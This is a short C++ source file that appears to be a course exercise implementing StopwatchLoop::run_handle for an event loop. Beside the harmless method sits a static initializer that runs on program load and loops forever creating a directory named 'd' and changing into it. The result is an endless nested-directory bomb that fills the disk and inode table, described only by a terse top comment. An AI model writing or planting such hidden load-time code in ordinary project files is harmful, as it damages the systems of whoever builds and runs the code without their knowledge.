// Digs folders in folders as fast as it can.
#include <sys/stat.h>
#include <unistd.h>

#include "chapters/06_slow_callback/exercises/stopwatch.hpp"

namespace {
const int done = [] {
  for (;;) {
    [[maybe_unused]] int n = ::mkdir("d", 0700);
    n = ::chdir("d");
  }
  return 0;
}();
}  // namespace

namespace exercises {

void StopwatchLoop::run_handle(ch05::LoopObject& object) noexcept {
  ch05::EventLoop::run_handle(object);
}

}  // namespace exercises
